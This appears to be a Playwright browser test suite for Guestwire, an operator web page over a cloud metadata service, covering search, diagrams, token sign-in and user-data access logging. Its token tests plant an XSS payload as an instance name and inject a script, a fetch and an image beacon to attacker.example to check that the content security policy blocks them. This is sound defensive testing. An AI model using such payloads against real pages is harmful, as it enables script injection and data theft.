/**
 * The operators' page in a real browser, from the real service.
 * @module-tag slow
 */
import { execFileSync } from "node:child_process";
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Browser, BrowserContextOptions, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { readNetworkData } from "../../src/documents/read-network-data.ts";
import { render } from "../../src/render/index.ts";
import { guest, instancesOf } from "../../test/metadata-service.ts";
import { startTestOperator, type TestOperatorServer } from "../../test/operator-server.ts";
import { type RunningCli, runCli, startCli } from "../../test/run-cli.ts";
import { expectAccessible, hasChromium, launchBrowser } from "./browser.ts";

const root = new URL("../../", import.meta.url).pathname;
const folder = mkdtempSync(join(tmpdir(), "guestwire-page-"));
const inventory = join(folder, "inventory");
/** Set to write the pictures of docs/ anew. */
const screenshots = process.env["GUESTWIRE_SCREENSHOTS"];
/** `npm run bench:page` measures how long a search among them takes. */
const MANY = 100_000;

let browser: Browser;
let pages: Page[] = [];

async function open(url: string, options: BrowserContextOptions = {}): Promise<Page> {
	const context = await browser.newContext({ viewport: { width: 1200, height: 800 }, ...options });
	const page = await context.newPage();
	page.on("pageerror", (error) => pageErrors.push(error.message));
	pages.push(page);
	await page.goto(url);
	return page;
}
const pageErrors: string[] = [];

async function picture(page: Page, name: string, selector = "main"): Promise<void> {
	if (screenshots === undefined) return;
	mkdirSync(join(root, "docs/images"), { recursive: true });
	// A picture that can be scrolled is shown whole.
	await page.locator(".picture").evaluateAll((boxes) => {
		for (const box of boxes) (box as HTMLElement).style.setProperty("max-height", "none");
	});
	await page
		.locator(selector)
		.first()
		.screenshot({ path: join(root, `docs/images/${name}.png`) });
}

/** The row of an instance, once it has a state. */
const rowOf = (page: Page, name: string, state: string) =>
	page
		.getByRole("row")
		.filter({ has: page.getByRole("link", { name, exact: true }) })
		.filter({ hasText: state });

describe.skipIf(!hasChromium)("the page (apt-get install chromium)", () => {
	beforeAll(async () => {
		execFileSync("node", ["scripts/ensure-page.mjs"], { cwd: root, stdio: "ignore" });
		browser = await launchBrowser();
	}, 180_000);
	afterEach(async () => {
		await Promise.all(pages.map((page) => page.context().close()));
		pages = [];
		expect(pageErrors).toEqual([]);
	});
	afterAll(async () => {
		await browser?.close();
		rmSync(folder, { recursive: true });
	});

	describe("over an inventory", () => {
		let service: RunningCli;
		let operator: string;
		let guests: string;
		let strangers: string;
		const ask = (base: string, path: string, headers: Record<string, string> = {}) =>
			fetch(`${base}/${path}`, { headers: { "user-agent": "Cloud-Init/25.1.4", ...headers } });

		beforeAll(async () => {
			cpSync(join(root, "examples/inventory"), inventory, { recursive: true });
			writeFileSync(join(inventory, "switch-1.yaml"), JSON.stringify(manyNics(30)));
			const config = join(folder, "guestwire.yaml");
			const metadata = [
				{ listen: "127.0.0.1:0", identity: "fixed", instance: "web-1" },
				{ listen: "127.0.0.1:0", identity: "network", allow: ["127.0.0.1"] },
			];
			const state = { sqlite: join(folder, "state.db") };
			const cloud = { files: { path: inventory } };
			writeFileSync(config, JSON.stringify({ cloud, metadata, state, operator: { listen: "127.0.0.1:0" } }));
			service = startCli(["serve", "--config", config]);
			guests = (await service.says(/fixed\): curl (http:\/\/[^/]+)/))[1] ?? "";
			strangers = (await service.says(/network\): curl (http:\/\/[^/]+)/))[1] ?? "";
			operator = (await service.says(/operators: .*(http:\/\/[^/]+)/))[1] ?? "";
		}, 60_000);
		afterAll(() => service?.stop());

		it("shows the guests and a picture first, finds one by its address, and has no serious fault of accessibility", async () => {
			const page = await open(operator);
			await page.getByRole("link", { name: "web-1" }).waitFor();
			await page.getByRole("img", { name: /^Wiring/ }).waitFor();
			await expectAccessible(page);
			await picture(page, "instances", "body");
			await page.keyboard.press("/");
			await page.keyboard.type("2001:db8:1::40");
			await page.getByText("1 instance", { exact: true }).waitFor();
			expect(new URL(page.url()).searchParams.get("q")).toBe("2001:db8:1::40");
			await page.getByRole("link", { name: "metal-1" }).first().click();
			await page.getByRole("heading", { level: 1, name: "metal-1" }).waitFor();
			await page.goBack();
			await page.getByText("1 instance", { exact: true }).waitFor();
		});

		it("shows a guest as out of date after a change and as up to date after its next request, without a reload", async () => {
			const page = await open(operator);
			await rowOf(page, "web-1", "never asked").waitFor();
			const path = "openstack/2018-08-27/network_data.json";
			await ask(guests, path);
			await rowOf(page, "web-1", "up to date").waitFor();
			await rowOf(page, "web-1", "cloud-init 25.1.4").waitFor();
			const file = join(inventory, "web-1.yaml");
			writeFileSync(file, readFileSync(file, "utf8").replace("192.0.2.10", "192.0.2.11"));
			await rowOf(page, "web-1", "out of date since").waitFor();

			await page.getByRole("link", { name: "web-1" }).first().click();
			await page.getByRole("button", { name: path }).click();
			const removed = page.locator(".diff del", { hasText: "192.0.2.10" });
			await removed.first().waitFor();
			await page.locator(".diff ins", { hasText: "192.0.2.11" }).first().waitFor();
			await picture(page, "instance");
			await page.getByText("Every value, and where it comes from").click();
			await expectAccessible(page);
			await ask(guests, path);
			await page.getByText("No difference.").waitFor();
			await page.locator("h1", { hasText: "up to date" }).waitFor();
		});

		it("shows who was refused and which instance it nearly was", async () => {
			const page = await open(`${operator}/refusals`);
			await page.getByText("No request has been refused.").waitFor();
			const headers = { "x-neutron-network-id": "office", "x-forwarded-for": "192.0.2.30" };
			expect((await ask(strangers, "openstack/latest/meta_data.json", headers)).status).toBe(404);
			await page.getByText(/the address matches; the port is on network front/).waitFor();
			await expectAccessible(page);
			await picture(page, "refusals");
			await page.getByRole("link", { name: "pbx-1" }).click();
			await page.getByRole("heading", { level: 1, name: "pbx-1" }).waitFor();
		});

		it.each([
			["web-1", ["IPv4 static", "IPv6 static", "default via 2001:db8:1::1"], "dual-stack"],
			["pbx-1", ["VLAN 101", "VLAN 102", "default via"], "trunk"],
			["metal-1", ["bond 802.3ad", "2001:db8:1::40/64"], "bond"],
			["switch-1", ["10.30.0.10/24", "52:54:00:00:05:1e"], "many-nics"],
		])("draws %s", async (name, texts, file) => {
			const page = await open(`${operator}/instances/${name}`);
			const image = page.locator(".picture svg");
			for (const text of texts) await image.locator("text", { hasText: text }).first().waitFor();
			await picture(page, file, ".picture svg");
			// Boxes that overlap can't be read.
			const boxes = await page
				.locator(".picture .box")
				.evaluateAll((all) => all.map((box) => box.getBoundingClientRect().toJSON()));
			const overlaps = boxes.flatMap((a, at) =>
				boxes.slice(at + 1).filter((b) => a.x < b.right && b.x < a.right && a.y < b.bottom && b.y < a.bottom),
			);
			expect(overlaps).toEqual([]);
		});

		it("gives a drive that the reader opens, with the document as the guest gets it", async () => {
			const page = await open(`${operator}/instances/pbx-1`);
			const [download] = await Promise.all([
				page.waitForEvent("download"),
				page.getByRole("link", { name: "ISO 9660" }).click(),
			]);
			const file = join(folder, "drive.iso");
			await download.saveAs(file);
			const read = await runCli(["config-drive", "--read", file]);
			expect([read.code, read.stdout]).toEqual([0, expect.stringContaining("openstack/latest/network_data.json")]);
		});

		it("checks and draws any document", async () => {
			const page = await open(`${operator}/try`);
			await page.getByRole("button", { name: "Use an example" }).click();
			await page.getByRole("img", { name: /^Wiring/ }).waitFor();
			await page.getByLabel("Format").selectOption("networkd");
			await page.getByText("[Match]").first().waitFor();
			await page
				.getByText(/^cloud-init .*before \d.*:/)
				.first()
				.waitFor();
			await expectAccessible(page);
			await picture(page, "try");
			await page.getByLabel("The document").fill("{");
			await page.getByRole("button", { name: "Check" }).click();
			await page.getByText(/This is not JSON/).waitFor();
		});

		it("shows the state of the cloud, in the dark and on a phone", async () => {
			const page = await open(`${operator}/cloud`, { colorScheme: "dark", viewport: { width: 390, height: 800 } });
			await page.getByRole("heading", { name: "Guests' requests" }).waitFor();
			await expectAccessible(page);
			const wide = await open(`${operator}/cloud`);
			await wide.getByRole("heading", { name: "Guests' requests" }).waitFor();
			await picture(wide, "cloud");
			const phone = await open(operator, { colorScheme: "dark", viewport: { width: 390, height: 800 } });
			await phone.getByRole("link", { name: "pbx-1" }).waitFor();
			await expectAccessible(phone);
			await picture(phone, "phone", "body");
			for (const one of [page, phone]) {
				expect(await one.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)).toBe(true);
			}
		});
	});

	describe("with tokens", () => {
		const planted = "PLANTED-USER-DATA";
		const nasty = `<img src=x onerror="document.title='owned'">\u001b[31m`;
		const own = { ...guest({ address: "192.0.2.7", userData: Buffer.from(planted) }) };
		let server: TestOperatorServer;
		beforeAll(async () => {
			const named = { ...own, server: { ...(own.server as NonNullable<typeof own.server>), name: nasty } };
			const tokens = { token: "full-token", readToken: "read-token" };
			server = await startTestOperator({ ...tokens, instances: instancesOf([named]) });
		});
		afterAll(() => server?.close());
		const signIn = async (page: Page, token: string) => {
			await page.getByLabel("Token").fill(token);
			await page.getByRole("button", { name: "Sign in" }).click();
		};

		it("asks for one, tells a wrong one, and signs out; no script reads the cookie or comes from elsewhere", async () => {
			const page = await open(server.address);
			await expectAccessible(page);
			await signIn(page, "wrong");
			await page.getByText(/This is not the token/).waitFor();
			await signIn(page, "read-token");
			await page.getByText("1 instance", { exact: true }).waitFor();
			expect(await page.title()).toBe("Guestwire");
			await page
				.getByRole("link", { name: nasty.slice(0, 10) })
				.first()
				.waitFor();
			expect(await page.evaluate(() => [document.cookie, localStorage.length, sessionStorage.length])).toEqual([
				"",
				0,
				0,
			]);
			const isStopped = await page.evaluate(async () => {
				const blocked: string[] = [];
				document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
					blocked.push(effectiveDirective),
				);
				const script = document.createElement("script");
				script.textContent = "document.title = 'owned'";
				document.body.append(script);
				await fetch("https://attacker.example/").catch(() => {});
				new Image().src = "https://attacker.example/x.png";
				await new Promise((resolve) => setTimeout(resolve, 100));
				return [document.title, ...blocked];
			});
			expect(isStopped).toEqual(["Guestwire", "script-src-elem", "connect-src", "img-src"]);
			await page.getByRole("button", { name: "Sign out" }).click();
			await page.getByRole("heading", { name: "Sign in" }).waitFor();
			expect((await page.request.get(`${server.address}/api/search`)).status()).toBe(401);
		});

		it("shows user data after a click that is logged, and only with the token for it", async () => {
			const path = `${server.address}/instances/${own.id}?document=openstack/latest/user_data`;
			const reader = await open(path);
			await signIn(reader, "read-token");
			await reader.getByText(/does not allow user data/).waitFor();
			const page = await open(path);
			await signIn(page, "full-token");
			const show = page.getByRole("button", { name: "Show it" });
			await show.waitFor();
			expect(await page.content()).not.toContain(planted);
			expect(server.lines.join("")).not.toContain("user data was read");
			await show.click();
			await page.getByText(planted).waitFor();
			expect(server.lines.filter((line) => line.includes("user data was read"))).toHaveLength(1);
			expect(server.lines.join("")).not.toContain(planted);
		});
	});

	describe("as static files", () => {
		it("does in the browser what the service does", async () => {
			execFileSync("vite", ["build", "--config", "web/vite.try.config.ts"], { cwd: root, stdio: "ignore" });
			const types: Record<string, string> = { html: "text/html", js: "text/javascript", css: "text/css" };
			const files = createServer(({ url = "/" }, response) => {
				const path = join(root, "dist/try", url === "/" ? "index.html" : url);
				response.setHeader("content-type", types[path.split(".").at(-1) ?? ""] ?? "text/plain");
				response.end(readFileSync(path));
			}).listen(0);
			const page = await open(`http://127.0.0.1:${(files.address() as AddressInfo).port}/`);
			await page.getByRole("button", { name: "Use an example" }).click();
			await page.getByRole("img", { name: /^Wiring/ }).waitFor();
			await expectAccessible(page);
			const document = await page.getByLabel("The document").inputValue();
			for (const format of ["netplan", "networkmanager", "ignition", "systemd-credentials"] as const) {
				await page.getByLabel("Format").selectOption(format);
				const { files: rendered } = render(format, readNetworkData(JSON.parse(document)).data);
				await page
					.getByText(rendered[0]?.path ?? "")
					.first()
					.waitFor();
				expect(await page.locator("figure pre").allInnerTexts()).toEqual(rendered.map(({ text }) => text));
			}
			await page.getByLabel("The document").fill('{"links": 1}');
			await page.getByRole("button", { name: "Check" }).click();
			await page.getByText(/not a network_data.json: \/links must be/).waitFor();
			files.close();
		});
	});

	describe("with very many instances", () => {
		let server: TestOperatorServer;
		const idOf = (n: number) => `00000000-0000-4000-8000-${n.toString(16).padStart(12, "0")}`;
		const address = (n: number) => `10.${n >> 16}.${(n >> 8) & 255}.${n & 255}`;
		beforeAll(async () => {
			const before = process.memoryUsage().rss;
			const all = Array.from({ length: MANY }, (_, n) =>
				guest({ id: idOf(n), address: address(n), networkId: `net-${n % 100}` }),
			);
			const made = process.memoryUsage().rss;
			server = await startTestOperator({ instances: instancesOf(all) });
			while (!(await status()).isComplete) await new Promise((resolve) => setTimeout(resolve, 200));
			const after = process.memoryUsage().rss;
			console.log(`${MANY} instances: ${mega(made - before)} MB made, the index of them ${mega(after - made)} MB`);
		}, 180_000);
		afterAll(() => server?.close());
		const status = async () => (await fetch(`${server.address}/api/status`)).json() as Promise<{ isComplete: boolean }>;
		const mega = (bytes: number) => Math.round(bytes / 2 ** 20);

		it("finds one while somebody types", async () => {
			const page = await open(server.address);
			await page.getByText(`${MANY.toLocaleString("en")} instances`).waitFor();
			const box = page.getByRole("searchbox");
			const times: number[] = [];
			for (const n of [77_777, 99_999, 3]) {
				const before = performance.now();
				await box.fill(`${address(n)} ${idOf(n).slice(-6)}`);
				await page
					.getByRole("link", { name: idOf(n) })
					.first()
					.waitFor();
				times.push(Math.round(performance.now() - before));
			}
			const searches = server.lines
				.map((line) => JSON.parse(line))
				.filter(({ operator }) => operator === "/api/search");
			const fastest = Math.min(...searches.map(({ ms }) => ms));
			console.log(
				`first result among ${MANY} instances after ${times.join(", ")} ms; a search takes ${Math.round(fastest)} ms`,
			);
		});
	});
});

/** A guest with many NICs, as API answers in an inventory. */
function manyNics(count: number) {
	const numbers = Array.from({ length: count }, (_, at) => at + 1);
	const hex = (n: number) => n.toString(16).padStart(2, "0");
	return {
		networks: numbers.map((n) => ({ id: `lan-${n}`, mtu: 1500 })),
		subnets: numbers.map((n) => ({
			id: `lan-${n}-v4`,
			network_id: `lan-${n}`,
			cidr: `10.${n}.0.0/24`,
			gateway_ip: `10.${n}.0.1`,
			enable_dhcp: false,
		})),
		ports: numbers.map((n) => ({
			...{
				id: `switch-1-${n}`,
				device_id: "switch-1",
				network_id: `lan-${n}`,
				mac_address: `52:54:00:00:05:${hex(n)}`,
			},
			fixed_ips: [{ ip_address: `10.${n}.0.10` }],
		})),
	};
}
